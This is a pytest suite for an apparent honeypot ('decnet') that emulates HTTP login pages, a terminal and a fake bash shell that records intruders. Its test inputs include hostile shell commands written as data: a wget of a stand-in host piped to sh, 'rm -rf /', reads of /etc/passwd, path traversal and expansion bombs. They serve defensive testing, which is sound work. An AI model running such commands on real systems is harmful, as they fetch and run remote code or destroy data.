"""The decoys' protocols without a network: HTTP, keys on a terminal, a shell that is none."""

from __future__ import annotations

import base64
import datetime as dt
import json
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.decoys import http_parse, recorder
from decnet.decoys.http_pages import REASONS, Site
from decnet.decoys.http_parse import (
    BadRequest,
    authorization,
    body_length,
    chunk_length,
    form_login,
    parse_head,
)
from decnet.decoys.logins import Logins, logins_of
from decnet.decoys.looks import LOOKS
from decnet.decoys.recorder import Recording, Shards
from decnet.decoys.shell.host import Host
from decnet.decoys.shell.parse import LINE_MOST, ShellSyntaxError, parse
from decnet.decoys.shell.shell import OUTPUT_MOST, Shell
from decnet.decoys.terminal import LineEditor

NOW = dt.datetime(2026, 11, 24, 3, 0, tzinfo=dt.UTC)
SITE = Site(LOOKS[0])


# -- http


def test_http_head_is_read() -> None:
    request = parse_head(b"POST /login?a=1 HTTP/1.1\r\nHost: x\r\nX-A:  b \r\nx-a: c\r\nE: \xff")
    assert (request.method, request.path, request.query) == ("POST", "/login", "a=1")
    assert request.headers == {"host": "x", "x-a": "b, c", "e": "\udcff"}
    assert request.keeps_alive
    assert not parse_head(b"GET / HTTP/1.0").keeps_alive
    assert not parse_head(b"GET / HTTP/1.1\nConnection: close").keeps_alive


@pytest.mark.parametrize(
    ("head", "status"),
    [
        (b"", 400),
        (b"\x16\x03\x01\x00", 400),
        (b"GET /", 400),
        (b"GET  / HTTP/1.1", 400),
        (b"G\xc3 / HTTP/1.1", 400),
        (b"GET / HTTP/2.0", 505),
        (b"GET / HTTP/1.1\r\nno colon", 400),
        (b"GET / HTTP/1.1\r\nA: b\r\n folded", 400),
        (b"GET / HTTP/1.1\r\nA b: c", 400),
        (b"GET /" + b"a" * 9000 + b" HTTP/1.1", 414),
        (b"GET / HTTP/1.1" + b"\r\nA: b" * 101, 431),
    ],
)
def test_http_head_that_is_none_is_refused(head: bytes, status: int) -> None:
    with pytest.raises(BadRequest) as caught:
        parse_head(head)
    assert caught.value.status == status
    assert status in REASONS


@given(st.binary(max_size=200))
def test_http_any_head_is_read_or_refused(head: bytes) -> None:
    try:
        body_length(parse_head(head))
        body_length(parse_head(b"GET / HTTP/1.1\r\n" + head))
    except BadRequest as error:
        assert error.status in REASONS


@pytest.mark.parametrize(
    ("headers", "result"),
    [
        (b"", 0),
        (b"Content-Length: 17", 17),
        (b"Transfer-Encoding: chunked", None),
        (b"Content-Length: +1", 400),
        (b"Content-Length: 1\r\nContent-Length: 1", 400),
        (b"Content-Length: 1\r\nTransfer-Encoding: chunked", 400),
        (b"Content-Length: 99999999", 413),
        (b"Transfer-Encoding: gzip", 501),
    ],
)
def test_http_length_of_the_body(headers: bytes, result: int | None) -> None:
    request = parse_head(b"POST / HTTP/1.1\r\n" + headers if headers else b"POST / HTTP/1.1")
    if result is None or result < 400:
        assert body_length(request) == result
        return
    with pytest.raises(BadRequest) as caught:
        body_length(request)
    assert caught.value.status == result


def test_http_chunk_lengths() -> None:
    assert chunk_length(b"1f;name=value") == 31
    for line in (b"", b"-1", b"0x1f", b"1 2"):
        with pytest.raises(BadRequest):
            chunk_length(line)
    with pytest.raises(BadRequest) as caught:
        chunk_length(b"ffffffff")
    assert caught.value.status == 413


@given(st.text(max_size=20).filter(lambda t: ":" not in t), st.binary(max_size=50))
def test_http_basic_credentials_are_exact(user: str, secret: bytes) -> None:
    raw = user.encode("utf-8", "surrogatepass") + b":" + secret
    login = authorization("Basic " + base64.b64encode(raw).decode())
    assert login is not None
    assert (login.secret, login.kind) == (secret, "plaintext")


@given(st.text(max_size=100), st.binary(max_size=100))
def test_http_any_credential_or_none(header: str, body: bytes) -> None:
    for scheme in ("", "Basic ", "Bearer ", "Digest "):
        authorization(scheme + header)
    for kind in ("application/x-www-form-urlencoded", "application/json", "", "\udcff"):
        form_login(kind, body)


def test_http_other_credentials() -> None:
    bearer = authorization("Bearer abc.def")
    assert bearer is not None
    assert (bearer.secret, bearer.kind) == (b"abc.def", "http_bearer")
    digest = authorization('Digest username="bob", realm="x", response="0123"')
    assert digest is not None
    assert (digest.principal, digest.secret, digest.kind) == ("bob", b"0123", "http_digest_md5")
    form = form_login("application/x-www-form-urlencoded", b"USER=bob&pass=a%00b%FF+c&x=y")
    assert form is not None
    assert (form.principal, form.secret) == ("bob", b"a\0b\xff c")
    obj = form_login("application/json; charset=utf-8", b'{"email": "a@b", "password": "\\u00e9"}')
    assert obj is not None
    assert (obj.principal, obj.secret) == ("a@b", "é".encode())
    assert form_login("application/json", b"[" * 100_000) is None
    assert form_login("application/x-www-form-urlencoded", b"a=b") is None
    assert form_login("", b"&".join(b"a=b" for _ in range(1000))) is None


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/", 200),
        ("GET", "/login", 200),
        ("POST", "/login", 200),
        ("GET", "/robots.txt", 200),
        ("GET", "/manager/html", 401),
        ("GET", "/nothing", 404),
        ("GET", "/../etc/passwd", 404),
        ("BREW", "/", 405),
    ],
)
def test_http_pages(method: str, path: str, status: int) -> None:
    page = SITE.page_for(method, path, tried_form=False, tried_header=False)
    assert page.status == status
    raw = SITE.respond(page, with_body=True, keep_alive=False)
    head, _, body = raw.partition(b"\r\n\r\n")
    assert head.startswith(f"HTTP/1.1 {status} ".encode())
    assert f"Content-Length: {len(body)}".encode() in head
    assert SITE.respond(page, with_body=False, keep_alive=False) == head + b"\r\n\r\n"


def test_http_nobody_gets_in() -> None:
    wrong = SITE.page_for("POST", "/login", tried_form=True, tried_header=False)
    assert b"Wrong user name" in wrong.body
    assert SITE.page_for("GET", "/", tried_form=False, tried_header=True).status == 401
    assert all(Site(look).error(status).body for status in REASONS for look in LOOKS)


# -- who is let in


def test_logins_the_first_pattern_that_matches_decides() -> None:
    logins = Logins.parse("!root:123* root:* admin:adm[i1]n")
    assert logins.accepts("root", "toor")
    assert not logins.accepts("root", "123456")
    assert logins.accepts("admin", "adm1n")
    assert not logins.accepts("admin", "x")
    assert not logins.accepts("bob", "toor")
    everybody = logins_of("ssh", {})
    assert everybody.accepts("anybody", "anything")
    assert not everybody.accepts("anybody", "")
    with pytest.raises(ValueError, match="root"):
        Logins.parse("root")


# -- keys


@pytest.mark.parametrize(
    ("keys", "lines", "echo"),
    [
        (b"id\r", ["id"], b"id\r\n"),
        (b"id\r\nw\n", ["id", "w"], b"id\r\nw\r\n"),
        (b"ix\x7fd\r", ["id"], b"ix\b \bd\r\n"),
        (b"\x7f\x7fid\r", ["id"], b"id\r\n"),
        (b"abc\x15id\r", ["id"], b"abc" + b"\b \b" * 3 + b"id\r\n"),
        (b"ls -la\x17/\r", ["ls /"], b"ls -la" + b"\b \b" * 3 + b"/\r\n"),
        ("é\x7fe\r".encode(), ["e"], b"\xc3\xa9\b \be\r\n"),
        (b"i\x1b[A\x1b[1;5Cd\x1bOA\r", ["id"], b"id\r\n"),
        (b"abc\x03id\r", ["", "id"], b"abc^C\r\nid\r\n"),
        (b"\x04", [None], b""),
        (b"a\x04\r", ["a"], b"a\r\n"),
        (b"\x00\x01\x1aid\r", ["id"], b"id\r\n"),
    ],
)
def test_terminal_edits_a_line(keys: bytes, lines: list[str | None], echo: bytes) -> None:
    typed = LineEditor(echoes=True).feed(keys)
    assert (typed.lines, typed.echo) == (lines, echo)
    # The same, key by key.
    editor, found, echoed = LineEditor(echoes=True), [], b""
    for at in range(len(keys)):
        one = editor.feed(keys[at : at + 1])
        found += one.lines
        echoed += one.echo
    assert (found, echoed) == (lines, echo)


def test_terminal_without_echo_cuts_lines_only() -> None:
    typed = LineEditor(echoes=False).feed(b"one\ntwo\x7f\r\nthr")
    assert (typed.lines, typed.echo) == (["one", "two\x7f"], b"")


@given(st.binary(max_size=300))
def test_terminal_takes_any_keys(keys: bytes) -> None:
    editor = LineEditor(echoes=True)
    for line in editor.feed(keys).lines:
        assert line is None or len(line) <= 4096
    assert len(editor.partial) <= 4096


def test_terminal_line_has_an_end() -> None:
    typed = LineEditor(echoes=True).feed(b"a" * 100_000 + b"\r")
    assert typed.lines == ["a" * 4096]


# -- the shell


def shell(user: str = "root") -> Shell:
    return Shell(Host("decky-01"), user, clock=lambda: NOW, remote="192.0.2.7")


@pytest.mark.parametrize(
    ("line", "output"),
    [
        ("whoami", "root\n"),
        ("id -u", "0\n"),
        ("/usr/bin/id -u", "0\n"),
        ("hostname; pwd", "decky-01\n/root\n"),
        ("false && echo no || echo yes", "yes\n"),
        ("true || echo no", ""),
        ("cat /etc/passwd | grep root | wc -l", "1\n"),
        ("echo 'a  b' \"c $USER\" d\\ e $NOTHING${HOME}", "a  b c root d e /root\n"),
        ("echo -e 'a\\x41\\n'", "aA\n\n"),
        ("echo -n x", "x"),
        ("X=1; echo $X", "1\n"),
        ("echo hi > /tmp/x && cat /tmp/x && echo ho >> /tmp/x; cat < /tmp/x", "hi\nhi\nho\n"),
        ("cd /tmp; pwd; cd; pwd", "/tmp\n/root\n"),
        ("cd /nowhere", "-bash: cd: /nowhere: No such file or directory\n"),
        ("nosuchthing", "-bash: nosuchthing: command not found\n"),
        ("./x", "-bash: ./x: No such file or directory\n"),
        ("cat /nope", "cat: /nope: No such file or directory\n"),
        ("cat /nope 2>/dev/null; echo $?", "1\n"),
        ("cat /nope > /tmp/o 2>&1; cat /tmp/o", "cat: /nope: No such file or directory\n"),
        ("mkdir /tmp/a && touch /tmp/a/b; ls /tmp/a; rm -rf /tmp/a; ls /tmp", "b\n"),
        ("rm -rf /; ls /", ""),
        ("sh -c 'echo a; echo b'", "a\nb\n"),
        ("sudo id -un", "root\n"),
        ("echo 'echo in' | sh", "in\n"),
        ("# nothing", ""),
        ("echo a # b\necho c", "a\nc\n"),
        ("uname -rs", "Linux 6.1.0-18-amd64\n"),
        ("uname -Z", "uname: invalid option -- 'Z'\n"),
        ("echo 'open", "-bash: unexpected EOF while looking for matching `''\n"),
        ("", ""),
    ],
)
def test_shell_answers(line: str, output: str) -> None:
    assert shell().run(line) == output


@pytest.mark.parametrize(
    "line", ["uname -a", "ps aux", "free -m", "df -h", "w", "ip a", "ls -la /", "history", "env"]
)
def test_shell_answers_something_to_what_attackers_try_first(line: str) -> None:
    one = shell()
    assert one.run(line)
    assert one.status == 0


def test_shell_knows_the_user_it_is() -> None:
    one = shell("admin")
    assert one.prompt == "admin@decky-01:~$ "
    assert one.run("id") == "uid=1000(admin) gid=1000(admin) groups=1000(admin)\n"
    assert shell().prompt == "root@decky-01:~# "
    one.run("cd /var/log")
    assert one.prompt == "admin@decky-01:/var/log$ "


def test_shell_exits_with_the_status_asked_for() -> None:
    one = shell()
    assert one.run("echo a; exit 3; echo b") == "a\n"
    assert (one.is_over, one.status) == (True, 3)


def test_shell_notes_what_was_to_be_fetched() -> None:
    one = shell()
    out = one.run("cd /tmp; wget -q http://192.0.2.66/x.sh -O- | sh; curl -O ftp://a.example/b")
    assert one.downloads == ["http://192.0.2.66/x.sh", "ftp://a.example/b"]
    assert "timed out" in out


def test_shell_sessions_do_not_see_each_other() -> None:
    one, two = shell(), shell()
    one.run("echo x > /tmp/mine; rm /etc/passwd")
    assert two.run("cat /tmp/mine") == "cat: /tmp/mine: No such file or directory\n"
    assert two.run("cat /etc/passwd").startswith("root:")


@pytest.mark.parametrize(
    "lines",
    [
        ["A=aaaaaaaaaaaaaaaa", *["A=$A$A$A$A"] * 20, "echo $A"],
        ["echo x > a", *["cat a a a a a a a a > b; cp b a"] * 20, "cat a"],
        ["echo 'cat s | sh; cat s | sh; cat s | sh' > s", "cat s | sh"],
        ["sh -c " * 3000],
        ["echo " + "a" * 100_000],
        ["; " * 50_000],
        ["$" * 8000],
        ['"' * 8001],
        ["cat " + "/proc/cpuinfo " * 2000],
    ],
)
def test_shell_cannot_be_made_to_grow(lines: list[str]) -> None:
    one = shell()
    began = time.process_time()
    for line in lines:
        assert len(one.run(line)) <= OUTPUT_MOST
    used = sum(len(v) for v in one.variables.values())
    assert used < 1 << 20
    assert time.process_time() - began < 20, "not a measurement: a bomb would take for ever"


@given(st.text(max_size=200))
def test_shell_takes_any_line(line: str) -> None:
    assert len(shell().run(line)) <= OUTPUT_MOST


@given(st.text(st.sampled_from("ab '\"\\$;|&><#\n{}"), max_size=60))
def test_shell_parses_any_line(line: str) -> None:
    try:
        pipelines = list(parse(line, {"a": "b"}))
    except ShellSyntaxError:
        return
    assert all(pipeline.commands for pipeline in pipelines)
    assert len(line) <= LINE_MOST


# -- recordings


def test_recording_is_an_asciicast_with_a_session_in_each_line(tmp_path: Path) -> None:
    shards = Shards(tmp_path, "decky/../01", "ssh")
    one, two = (Recording(shards, sid, {"width": 80, "height": 24}) for sid in ("one", "two"))
    one.typed(b"id\r\xff")
    two.shown(b"out\n")
    one.end()
    shards.close()
    assert one.path.parent == tmp_path / "decky____01" / "ssh" / "transcripts"
    lines = [json.loads(line) for line in one.path.read_text().splitlines()]
    assert [line["sid"] for line in lines] == ["one", "two", "one", "two", "one"]
    assert lines[0]["version"] == 2
    assert lines[2]["event"][1:] == ["i", "id\r\udcff"]
    assert lines[3]["event"][1:] == ["o", "out\n"]
    assert lines[4]["event"][1] == "x"
    assert one.path.stat().st_mode & 0o777 == 0o600
    assert not one.truncated


def test_recording_has_an_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(recorder, "SESSION_MOST", 1000)
    shards = Shards(tmp_path, "d", "ssh")
    one = Recording(shards, "one", {})
    for _ in range(100):
        one.shown(b"x" * 50)
    shards.close()
    assert one.truncated
    assert one.size_bytes == one.path.stat().st_size <= 1000


def test_recording_of_a_full_day_is_not_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(recorder, "SHARD_MOST", 300)
    shards = Shards(tmp_path, "d", "ssh")
    for n in range(20):
        Recording(shards, str(n), {}).shown(b"x")
    assert shards.lost > 0
    shards.close()


def test_recording_is_not_glued_to_a_half_line(tmp_path: Path) -> None:
    shards = Shards(tmp_path, "d", "ssh")
    path = shards.path(dt.datetime.now(dt.UTC))
    path.parent.mkdir(parents=True)
    path.write_bytes(b'{"sid":"dead","ev')
    one = Recording(shards, "one", {})
    shards.close()
    assert one.size_bytes
    assert json.loads(path.read_text().splitlines()[1])["sid"] == "one"


def test_http_head_bounds_are_within_each_other() -> None:
    assert http_parse.TARGET_MOST < http_parse.HEAD_MOST
